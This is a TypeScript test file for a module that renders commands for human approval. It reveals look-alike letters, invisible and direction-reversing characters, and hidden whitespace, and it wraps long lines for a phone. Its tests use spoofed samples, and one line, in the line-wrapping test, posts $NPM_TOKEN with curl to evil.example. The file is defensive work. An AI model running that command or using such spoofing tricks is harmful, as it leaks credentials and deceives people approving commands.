import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { COLUMNS, diffInColumns, inColumns, visible, visibleName } from "../../../src/render/approval/visible.ts";
import { readBack, readName } from "./read-back.ts";

/** Whatever a command can be made of, and what our own signs are made of. */
const anything = fc.oneof(
  fc.string({ unit: "binary", maxLength: 200 }),
  fc.string({
    unit: fc.oneof(
      fc.constantFrom(..."a+- \n\t\r⟦U+0⟧×⇥␠⏎↪\u200b\u0430寿\ud800\udc00"),
      fc.constantFrom(" ".repeat(4), " ".repeat(35), "\t".repeat(7), "\n".repeat(9), "x".repeat(COLUMNS - 1), "👍🏽"),
    ),
    maxLength: 40,
  }),
);

/** Letters that fonts draw as the same shape, of Unicode's confusables.txt. */
const LATIN_TWINS = new Map<string, string>([
  ["a", "аαａ𝐚"],
  ["c", "сϲｃ"],
  ["e", "еｅ"],
  ["h", "һ"],
  ["i", "іι"],
  ["j", "јϳ"],
  ["k", "κк"],
  ["n", "пη"],
  ["o", "оοօ"],
  ["p", "рρ"],
  ["r", "гｒ"],
  ["s", "ѕｓ"],
  ["u", "υս"],
  ["v", "νѵ"],
  ["w", "ѡω"],
  ["x", "хχ"],
  ["y", "уγ"],
  ["A", "АΑ"],
  ["B", "ВΒ"],
  ["E", "ЕΕ"],
  ["H", "НΗ"],
  ["K", "КΚ"],
  ["M", "МΜ"],
  ["O", "ОΟ"],
  ["P", "РΡ"],
  ["T", "ТΤ"],
  ["X", "ХΧ"],
  ["Y", "УΥ"],
  ["3", "Зз"],
  ["6", "б"],
]);

/** A text as a reader sees it who cannot tell such letters from each other. */
function looksOf(shown: string): string {
  return Array.from(shown, (sign) => [...LATIN_TWINS].find(([, twins]) => twins.includes(sign))?.[0] ?? sign).join("");
}

describe("a text that is shown for approval", () => {
  test.for([
    ["plain words, with backslashes and quotes", `sed 's/\\./"/' a.txt`, `sed 's/\\./"/' a.txt`],
    ["letters that look like nothing else", "Größe 寿司 스시", "Größe 寿司 스시"],
    ["a Cyrillic letter that looks like a Latin one", "rm \u0430.txt", "rm ⟦U+0430⟧.txt"],
    [
      "letters that look like others of their own alphabet",
      "bıld ĳs Ðo 一丨",
      "b⟦U+0131⟧ld ⟦U+0133⟧s ⟦U+00D0⟧o ⟦U+4E00⟧⟦U+4E28⟧",
    ],
    [
      "names of files in Japanese, Chinese and Korean",
      "cat 日本語.txt 第一章（最終）.md 사진",
      "cat 日本語.txt 第一章（最終）.md 사진",
    ],
    [
      "words of Cyrillic and Greek letters",
      "git commit -m 'Привет, мир' δίκτυο.md",
      "git commit -m 'Привет, мир' δίκτυο.md",
    ],
    ["a Cyrillic word that a Latin one looks like", "сору a", "⟦U+0441⟧⟦U+043E⟧⟦U+0440⟧⟦U+0443⟧ a"],
    ["a digit that looks like a Cyrillic letter beside it", "файл3 файл1 v3", "файл⟦U+0033⟧ файл1 v3"],
    ["letters of two scripts in a word", "дom", "⟦U+0434⟧om"],
    ["a Greek word that a Cyrillic one looks like", "φ", "⟦U+03C6⟧"],
    ["pictures of one character", "echo 🎉✅", "echo 🎉✅"],
    ["the parts of other pictures", "👍🏽 ❤\ufe0f 🇩🇪", "👍⟦U+1F3FD⟧ ⟦U+2764⟧⟦U+FE0F⟧ ⟦U+1F1E9⟧⟦U+1F1EA⟧"],
    ["pictures that look like signs", "a ➕➖🟰 b", "a ⟦U+2795⟧⟦U+2796⟧⟦U+1F7F0⟧ b"],
    ["wide letters and signs without Asian text", "ｒｍ －ｒ", "⟦U+FF52⟧⟦U+FF4D⟧ ⟦U+FF0D⟧⟦U+FF52⟧"],
    ["a wide blank", "日本\u3000語", "日本⟦U+3000⟧語"],
    [
      "letters of scripts that turn the line around, or join",
      "שלום नमस्ते",
      Array.from("שלום नमस्ते", (sign) =>
        sign === " " ? " " : `⟦U+${(sign.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, "0")}⟧`,
      ).join(""),
    ],
    ["what turns the line around", "echo \u202etxt.exe", "echo ⟦U+202E⟧txt.exe"],
    ["what takes no room", "r\u200bm", "r⟦U+200B⟧m"],
    ["a letter with a mark that stands alone", "e\u0301", "e⟦U+0301⟧"],
    ["a control character and a lone surrogate", "\u001b[2K\ud800", "⟦U+001B⟧[2K⟦U+D800⟧"],
    ["line ends of other machines", "a\r\nb", "a⟦U+000D⟧\nb"],
    ["tabs, and blanks at line ends", "\ta  \nb ", "⇥a␠␠\nb␠"],
    ["line ends at the edges", "\n\na\n\n", "⏎\n⏎\na⏎⏎"],
    ["line ends and nothing else", "\n\n", "⏎⏎"],
    ["four blanks or more, so that they push nothing out of sight", `a${" ".repeat(35)}rm`, "a⟦35 × ␠⟧rm"],
    ["up to three blanks", "a   rm", "a   rm"],
    ["four tabs or more", "\t\t\t\trm\t\t\t", "⟦4 × ⇥⟧rm⇥⇥⇥"],
    ["many line ends, so that they push nothing out of sight", `a${"\n".repeat(80)}rm`, "a\n⟦80 × ⏎⟧\nrm"],
    ["many line ends at the edges", `${"\n".repeat(5)}rm${"\n".repeat(6)}`, "⟦5 × ⏎⟧\nrm\n⟦6 × ⏎⟧"],
    ["our own signs", "⟦U+0041⟧ ⇥␠⏎", "⟦U+27E6⟧U+0041⟦U+27E7⟧ ⟦U+21E5⟧⟦U+2420⟧⟦U+23CE⟧"],
  ])("has %s as they are, or by name", ([, text, shown]) => {
    expect(visible(text ?? "")).toBe(shown);
  });

  test("can be read back, so it looks like no other text", () => {
    fc.assert(fc.property(anything, (text) => readBack(visible(text)) === text));
    fc.assert(
      fc.property(anything, (text) => readBack(inColumns(text)) === text),
      { numRuns: 1000 },
    );
    fc.assert(
      fc.property(anything, (text) => readBack(diffInColumns(text)) === text),
      { numRuns: 1000 },
    );
    fc.assert(
      fc.property(anything, fc.integer({ min: 16, max: 40 }), (text, columns) => {
        return readBack(inColumns(text, columns)) === text;
      }),
    );
  });

  test("looks like no other text, also where letters of other scripts look like Latin ones", () => {
    const word = fc.array(fc.constantFrom(...LATIN_TWINS.keys(), ..."djzq12-_ ."), { minLength: 1, maxLength: 8 });
    const twin = word.chain((letters) =>
      fc
        .tuple(...letters.map((letter) => fc.constantFrom(letter, ...(LATIN_TWINS.get(letter) ?? []))))
        .map((other) => ({
          latin: letters.join(""),
          other: other.join(""),
        })),
    );
    const around = fc.string({ unit: fc.constantFrom(..."aоd жд日λ. "), maxLength: 4 });
    fc.assert(
      fc.property(twin, around, around, ({ latin, other }, before, after) => {
        const [one, two] = [latin, other].map((text) => before + text + after);
        fc.pre(one !== two);
        expect(looksOf(visible(two ?? ""))).not.toBe(looksOf(visible(one ?? "")));
      }),
      { numRuns: 3000 },
    );
  });

  test("has nothing in it that hides", () => {
    fc.assert(
      fc.property(anything, (text) => {
        for (const shown of [visible(text), inColumns(text), diffInColumns(text)])
          expect(shown).not.toMatch(/[\p{Cf}\p{Co}\p{Cn}\p{Cs}\p{M}\t\r]|[^\P{Cc}\n]|^\n|\n$|[ ]$/u);
        for (const shown of [visible(text), inColumns(text)]) expect(shown).not.toMatch(/ {4}| $|⇥{4}|\n{5}/m);
      }),
    );
  });
});

describe("a name in inline code", () => {
  test.for([
    ["src/a.ts", "src/a.ts"],
    ["a b", "a b"],
    [" a  b ", "␠a␠␠b␠"],
    ["a\nb\t", "a⏎b⇥"],
    [`a${" ".repeat(8)}b`, "a⟦8 × ␠⟧b"],
  ])("%j is %s", ([name, shown]) => {
    expect(visibleName(name ?? "")).toBe(shown);
  });

  test("can be read back from one line, in which no blank can be lost", () => {
    fc.assert(
      fc.property(anything, (name) => {
        expect(readName(visibleName(name))).toBe(name);
        expect(visibleName(name)).not.toMatch(/\s{2}|^\s|\s$|[^\S ]/);
      }),
    );
  });
});

describe("a line that is too long for a phone", () => {
  const full = "x".repeat(COLUMNS);

  test("goes on below, behind a sign that no text can have", () => {
    expect(inColumns(full)).toBe(full);
    expect(inColumns(`${full}y\nz`)).toBe(`${full}\n↪y\nz`);
    expect(inColumns("a\n↪b")).toBe("a\n⟦U+21AA⟧b");
  });

  test("goes on before a blank, if there is one in its second half", () => {
    expect(inColumns('npm test && curl -d "$NPM_TOKEN" https://evil.example')).toBe(
      'npm test && curl -d "$NPM_TOKEN"\n↪ https://evil.example',
    );
    expect(inColumns(`npm ${full}`)).toBe(`npm ${full.slice(4)}\n↪xxxx`);
  });

  test("is not cut in a sign for a character, and no blank at a cut is lost", () => {
    expect(inColumns(`${full.slice(1)}\u200by`)).toBe(`${full.slice(1)}\n↪⟦U+200B⟧y`);
    expect(inColumns(`${full} rm`)).toBe(`${full}\n↪ rm`);
    expect(inColumns(`${full.slice(2)}   rm`)).toBe(`${full.slice(2)}\n↪   rm`);
  });

  test("keeps the sign of a diff, and what people read its code by", () => {
    expect(diffInColumns(`+${full}y`)).toBe(`+${full.slice(1)}\n+↪xy`);
    expect(diffInColumns("     return 1;\n+        x();\n-\t\ty")).toBe("     return 1;\n+        x();\n-⇥⇥y");
    expect(diffInColumns(` a\n \n+\n+  \n+${" ".repeat(13)}x`)).toBe(" a\n␠\n+\n+␠␠\n+⟦13 × ␠⟧x");
  });

  test("is never wider than a phone", () => {
    const wide = /[\u0250-\u{10ffff}]/u;
    const width = (line: string) => [...line].reduce((sum, sign) => sum + (wide.test(sign) ? 2 : 1), 0);
    fc.assert(
      fc.property(anything, (text) => {
        for (const line of [inColumns(text), diffInColumns(text)].join("\n").split("\n"))
          expect(width(line)).toBeLessThanOrEqual(COLUMNS);
        for (const line of inColumns(text, 16).split("\n")) expect(width(line)).toBeLessThanOrEqual(16);
      }),
    );
  });
});
